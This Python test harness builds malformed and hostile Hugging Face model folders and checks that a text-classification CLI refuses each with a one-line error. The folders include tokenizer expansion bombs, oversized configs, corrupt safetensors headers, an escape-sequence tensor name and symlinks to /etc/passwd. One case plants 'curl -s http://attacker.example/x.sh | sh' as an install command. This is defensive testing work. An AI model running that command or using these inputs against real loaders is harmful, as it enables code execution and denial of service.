"""Hostile Hugging Face folders for textcls (issue 41): each case crafts, in a temporary folder, one folder a user
might download and open, and names the issue item it probes and the refusal it must get.

    python scripts/hostile_hf.py [--out FOLDER] [--only NAME ...] [--timeout 120] [--memory-mb 3000]

builds every case and runs `python -m textcls predict FOLDER "a good film"` (or `train --model hf:FOLDER` for a
training case) in a child process under an address-space cap and a timeout, then prints a table: case, item,
exit code, seconds, peak memory, lines on stderr, and whether the verdict is the expected one (exit 2, one
line, the expected words, no control character). tests/test_hostile_hf.py builds the same cases with `build`.
"""
from __future__ import annotations

import argparse
import json
import os
import re
import resource
import shutil
import struct
import subprocess
import sys
import tempfile
import time
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

REPO = Path(__file__).resolve().parents[1]


@dataclass
class Case:
    name: str
    item: int                       # the item of issue 41 it probes
    expect: str                     # a regular expression the one-line refusal must match
    make: Callable[[Path, Path], Path]      # (good tiny folder, root) -> the hostile folder
    kind: str = "predict"           # "predict", or "train" (fine-tune from it)
    delta: bool = False             # a delta: its toy base is installed under ROOT/site


CASES: dict[str, Case] = {}


def case(name: str, item: int, expect: str, kind: str = "predict", delta: bool = False):
    def register(make):
        CASES[name] = Case(name, item, expect, make, kind, delta)
        return make
    return register


# ---------------------------------------------------------------- helpers

def good_folder(root: Path) -> Path:
    """A tiny BERT classifier (tests/hf_toys.py): random weights, 2 layers of 32."""
    sys.path.insert(0, str(REPO / "tests"))
    from hf_toys import tiny_folder
    return tiny_folder(root / "_good")


def _copy(good: Path, root: Path, name: str) -> Path:
    dst = root / name
    shutil.copytree(good, dst)
    return dst


def _edit(path: Path, change: Callable[[dict], None]) -> None:
    d = json.loads(path.read_text(encoding="utf-8"))
    change(d)
    path.write_text(json.dumps(d), encoding="utf-8")


def _raw_safetensors(path: Path, header: dict, data: bytes = b"") -> None:
    raw = json.dumps(header).encode()
    path.write_bytes(struct.pack("<Q", len(raw)) + raw + data)


def _tensors(path: Path) -> dict:
    from safetensors.torch import load_file
    return load_file(str(path))


def _save(path: Path, state: dict) -> None:
    from safetensors.torch import save_file
    save_file({k: v.contiguous() for k, v in state.items()}, str(path))


def _delta(good: Path, root: Path, name: str, change: Callable[[dict], None] | None = None) -> Path:
    """A delta over a toy base installed as the package ROOT/site/base_NAME (the good folder): only the
    classifier in float16, every base file hashed."""
    import torch
    sys.path.insert(0, str(REPO))
    from textcls.checkpoint import base_files
    module = "base_" + re.sub(r"\W", "_", name)
    pkg = root / "site" / module
    shutil.copytree(good, pkg / "model")
    (pkg / "__init__.py").write_text("")
    folder = root / name
    folder.mkdir()
    state = {k: v.to(torch.float16) for k, v in _tensors(good / "model.safetensors").items() if k.startswith("classifier")}
    _save(folder / "model.safetensors", state)
    hf_cfg = json.loads((good / "config.json").read_text())
    cfg = {"format": "textcls-hf-delta", "format_version": 1, "hf_config": hf_cfg, "labels": ["negative", "positive"],
           "base": {"package": module.replace("_", "-"), "module": module, "subdir": "model",
                    "files": base_files(pkg / "model")},
           "metrics": {"test_accuracy": 0.8556}}
    if change:
        change(cfg)
    (folder / "config.json").write_text(json.dumps(cfg))
    return folder


# ---------------------------------------------------------------- the cases

@case("normalizer_bomb", 1, r"lengthen a text")
def _normalizer_bomb(good, root):
    p = _copy(good, root, "normalizer_bomb")
    _edit(p / "tokenizer.json", lambda d: d.update(normalizer={"type": "Sequence", "normalizers": [
        {"type": "Replace", "pattern": {"String": "a"}, "content": "aa"}] * 30}))
    return p


@case("regex_replace_bomb", 1, r"lengthen a text")
def _regex_bomb(good, root):
    p = _copy(good, root, "regex_replace_bomb")
    _edit(p / "tokenizer.json", lambda d: d.update(normalizer={
        "type": "Replace", "pattern": {"Regex": ""}, "content": "x" * 500}))
    return p


@case("decoder_bomb", 1, r"decoder may lengthen")
def _decoder_bomb(good, root):
    p = _copy(good, root, "decoder_bomb")
    _edit(p / "tokenizer.json", lambda d: d.update(decoder={"type": "Sequence", "decoders": [
        {"type": "Replace", "pattern": {"String": "a"}, "content": "aaaa"}] * 20}))
    return p


@case("prepend_per_segment", 1, r"lengthen a text")
def _prepend(good, root):
    p = _copy(good, root, "prepend_per_segment")
    _edit(p / "tokenizer.json", lambda d: d.update(normalizer={"type": "Prepend", "prepend": "x" * 1000}))
    return p


@case("precompiled_chain", 1, r"lengthen a text")
def _precompiled(good, root):
    import base64
    table = base64.b64encode(struct.pack("<I", 0) + b"aa\0").decode()        # an empty trie, one 2-char string
    p = _copy(good, root, "precompiled_chain")
    _edit(p / "tokenizer.json", lambda d: d.update(normalizer={"type": "Sequence", "normalizers": [
        {"type": "Precompiled", "precompiled_charsmap": table}] * 12}))
    return p


@case("padding_to_a_million", 1, r"tokenizer failed on a probe text")
def _padding(good, root):
    p = _copy(good, root, "padding_to_a_million")
    _edit(p / "tokenizer.json", lambda d: d.update(padding={
        "strategy": {"Fixed": 100_000_000}, "direction": "Right", "pad_to_multiple_of": None, "pad_id": 0,
        "pad_type_id": 0, "pad_token": "[PAD]"}))
    return p


@case("vocab_size_7m", 2, r"vocab_size must be")
def _vocab_7m(good, root):
    p = _copy(good, root, "vocab_size_7m")
    _edit(p / "config.json", lambda d: d.update(vocab_size=7_000_000))
    return p


@case("layers_100k", 2, r"num_hidden_layers must be")
def _layers(good, root):
    p = _copy(good, root, "layers_100k")
    _edit(p / "config.json", lambda d: d.update(num_hidden_layers=100_000))
    return p


@case("over_parameter_limit", 2, r"over max_pretrained_parameters")
def _too_big(good, root):
    p = _copy(good, root, "over_parameter_limit")
    _edit(p / "config.json", lambda d: d.update(vocab_size=1_900_000, hidden_size=128, intermediate_size=256))
    return p


@case("train_vocab_2e7", 2, r"vocab_size must be", kind="train")
def _train_vocab(good, root):
    p = _copy(good, root, "train_vocab_2e7")
    _edit(p / "config.json", lambda d: d.update(vocab_size=20_000_000))
    return p


@case("delta_vocab_7m", 2, r"vocab_size must be", delta=True)
def _delta_vocab(good, root):
    return _delta(good, root, "delta_vocab_7m", lambda c: c["hf_config"].update(vocab_size=7_000_000))


@case("base_tokenizer_swapped", 3, r"differs from the one .*tokenizer\.json", delta=True)
def _swapped(good, root):
    p = _delta(good, root, "base_tokenizer_swapped")
    tj = root / "site" / "base_base_tokenizer_swapped" / "model" / "tokenizer.json"

    def swap(d):
        v = d["model"]["vocab"]
        v["good"], v["bad"] = v["bad"], v["good"]
    _edit(tj, swap)
    return p


@case("no_tensors", 4, r"tensors are missing")
def _no_tensors(good, root):
    p = _copy(good, root, "no_tensors")
    _raw_safetensors(p / "model.safetensors", {"__metadata__": {"format": "pt"}})
    return p


@case("classifier_only", 4, r"tensors are missing")
def _classifier_only(good, root):
    p = _copy(good, root, "classifier_only")
    _save(p / "model.safetensors", {k: v for k, v in _tensors(good / "model.safetensors").items()
                                    if k.startswith("classifier")})
    return p


@case("two_layers_under_three", 4, r"tensors are missing")
def _layers_short(good, root):
    p = _copy(good, root, "two_layers_under_three")
    _edit(p / "config.json", lambda d: d.update(num_hidden_layers=3))
    return p


@case("integer_weights", 4, r"stored as I32")
def _int_weights(good, root):
    import torch
    p = _copy(good, root, "integer_weights")
    state = _tensors(good / "model.safetensors")
    state = {k: (v * 100).to(torch.int32) if k == "classifier.weight" else v for k, v in state.items()}
    _save(p / "model.safetensors", state)
    return p


@case("duplicate_id2label", 4, r"names a class twice")
def _dup_id2label(good, root):
    p = _copy(good, root, "duplicate_id2label")
    _edit(p / "config.json", lambda d: d.update(id2label={"0": "pos", "1": "pos"}))
    return p


@case("duplicate_textcls_labels", 4, r"names a class twice")
def _dup_textcls(good, root):
    p = _copy(good, root, "duplicate_textcls_labels")
    (p / "textcls.json").write_text(json.dumps({"labels": ["pos", "pos"], "metrics": {"test_accuracy": 0.9}}))
    return p


@case("delta_duplicate_labels", 4, r"names a class twice", delta=True)
def _delta_dup(good, root):
    return _delta(good, root, "delta_duplicate_labels", lambda c: c.update(labels=["pos", "pos"]))


@case("delta_install_command", 5, r"install it with: pip install --no-deps base-delta-install-command$",
      delta=True)
def _delta_install(good, root):
    p = _delta(good, root, "delta_install_command", lambda c: c["base"].update(
        install="curl -s http://attacker.example/x.sh | sh"))
    shutil.rmtree(root / "site" / "base_delta_install_command")        # the base is not installed
    return p


@case("escape_tensor_name", 6, r"tensor\(s\) the model does not")
def _escape_name(good, root):
    import torch
    p = _copy(good, root, "escape_tensor_name")
    state = _tensors(good / "model.safetensors")
    state["\x1b[2J\x1b]0;pwned\x07"] = torch.zeros(1)
    _save(p / "model.safetensors", state)
    return p


@case("big_special_tokens_map", 7, r"over the 1,000,000-byte limit")
def _big_special(good, root):
    p = _copy(good, root, "big_special_tokens_map")
    (p / "special_tokens_map.json").write_text(json.dumps({"pad_token": "[PAD]", "x": "y" * 1_100_000}))
    return p


@case("vocabulary_past_the_table", 7, r"embedding table has")
def _vocab_past(good, root):
    p = _copy(good, root, "vocabulary_past_the_table")
    _edit(p / "tokenizer.json", lambda d: d["model"]["vocab"].update({f"w{i}": 1000 + i for i in range(50_000)}))
    return p


@case("many_zero_size_tensors", 7, r"tensors, over the limit")
def _many_tensors(good, root):
    p = _copy(good, root, "many_zero_size_tensors")
    _raw_safetensors(p / "model.safetensors",
                     {f"t{i}": {"dtype": "F32", "shape": [0], "data_offsets": [0, 0]} for i in range(20_100)})
    return p


@case("deep_header", 10, r"corrupt safetensors file")
def _deep_header(good, root):
    p = _copy(good, root, "deep_header")
    raw = b'{"a":' + b"[" * 200_000 + b"]" * 200_000 + b"}"
    (p / "model.safetensors").write_bytes(struct.pack("<Q", len(raw)) + raw)
    return p


@case("labels_a_number", 10, r"must be a non-empty list of label names")
def _labels_number(good, root):
    p = _copy(good, root, "labels_a_number")
    (p / "textcls.json").write_text(json.dumps({"labels": 5}))
    return p


@case("vocab_symlink_passwd", 10, r"symlink out of its folder")
def _vocab_link(good, root):
    p = _copy(good, root, "vocab_symlink_passwd")
    (p / "tokenizer.json").unlink()
    (p / "vocab.txt").unlink()
    (p / "vocab.txt").symlink_to("/etc/passwd")
    return p


@case("tokenizer_id_past_the_table", 10, r"embedding table has 40 rows")
def _id_past(good, root):
    p = _copy(good, root, "tokenizer_id_past_the_table")
    _edit(p / "config.json", lambda d: d.update(vocab_size=40))
    state = _tensors(good / "model.safetensors")
    name = "bert.embeddings.word_embeddings.weight"
    _save(p / "model.safetensors", {**state, name: state[name][:40]})       # weights and config agree on 40 rows
    return p


@case("position_table_of_2", 10, r"position table has 2 usable position")
def _positions(good, root):
    p = _copy(good, root, "position_table_of_2")
    _edit(p / "config.json", lambda d: d.update(max_position_embeddings=2))
    state = _tensors(good / "model.safetensors")
    name = "bert.embeddings.position_embeddings.weight"
    _save(p / "model.safetensors", {**state, name: state[name][:2]})
    return p


@case("weights_symlink_out", 11, r"symlink out of its folder")
def _weights_link(good, root):
    p = _copy(good, root, "weights_symlink_out")
    outside = root / "_outside.safetensors"
    shutil.copy(p / "model.safetensors", outside)
    (p / "model.safetensors").unlink()
    (p / "model.safetensors").symlink_to(outside)
    return p


def build(root: Path, names=None) -> dict[str, Path]:
    """Every case (or those named) under `root`: {name: its folder}. Delta cases' bases lie in ROOT/site."""
    root = Path(root)
    root.mkdir(parents=True, exist_ok=True)
    good = root / "_good" / "tiny-bert"
    if not good.exists():
        good = good_folder(root)
    return {n: c.make(good, root) for n, c in CASES.items() if names is None or n in names}


# ---------------------------------------------------------------- the probe

def _limit(memory: int):
    def apply():
        resource.setrlimit(resource.RLIMIT_AS, (memory, memory))
    return apply


def run(case_: Case, folder: Path, root: Path, timeout: float, memory_mb: int) -> dict:
    """One try in a child process: exit code, seconds, stderr lines, verdict."""
    env = {**os.environ, "PYTHONPATH": os.pathsep.join([str(REPO), str(root / "site")]),
           "TEXTCLS_HOME": str(root / "_home")}
    if case_.kind == "train":
        cmd = ["train", "--model", f"hf:{folder}", "--data", "sst2", "--limit", "16", "--epochs", "0.5",
               "--out", str(root / "_runs" / case_.name), "--quiet"]
    else:
        cmd = ["predict", str(folder), "a good film"]
    t = time.perf_counter()
    try:
        done = subprocess.run([sys.executable, "-m", "textcls", *cmd], capture_output=True, text=True, env=env,
                              timeout=timeout, preexec_fn=_limit(memory_mb * 2**20))
        rc, err = done.returncode, done.stderr
    except subprocess.TimeoutExpired as e:
        rc, err = "timeout", (e.stderr or b"").decode("utf-8", "replace") if isinstance(e.stderr, bytes) else ""
    seconds = time.perf_counter() - t
    lines = [x for x in err.splitlines() if x.strip()]
    ok = rc == 2 and len(lines) == 1 and re.search(case_.expect, lines[0]) is not None \
        and not re.search(r"[\x00-\x08\x0b-\x1f\x7f]", err)
    return {"case": case_.name, "item": case_.item, "rc": rc, "seconds": round(seconds, 1), "lines": len(lines),
            "ok": ok, "message": lines[-1][:160] if lines else ""}


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--out", default=None, help="build the cases here (default: a temporary folder)")
    ap.add_argument("--only", nargs="*", default=None, help="case names")
    ap.add_argument("--timeout", type=float, default=120)
    ap.add_argument("--memory-mb", type=int, default=3000)
    args = ap.parse_args(argv)
    root = Path(args.out or tempfile.mkdtemp(prefix="hostile-hf-"))
    folders = build(root, args.only)
    rows = [run(CASES[n], f, root, args.timeout, args.memory_mb) for n, f in folders.items()]
    peak = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss / 1024
    print("| case | item | exit | s | stderr lines | verdict | message |\n|---|---:|---:|---:|---:|---|---|")
    for r in rows:
        print(f"| {r['case']} | {r['item']} | {r['rc']} | {r['seconds']} | {r['lines']} | "
              f"{'refused' if r['ok'] else 'FAILED'} | {r['message'].replace('|', '/')} |")
    failed = [r["case"] for r in rows if not r["ok"]]
    print(f"\n{len(rows)} tries, {len(failed)} failed{': ' + ', '.join(failed) if failed else ''}; "
          f"peak child memory {peak:,.0f} MB")
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
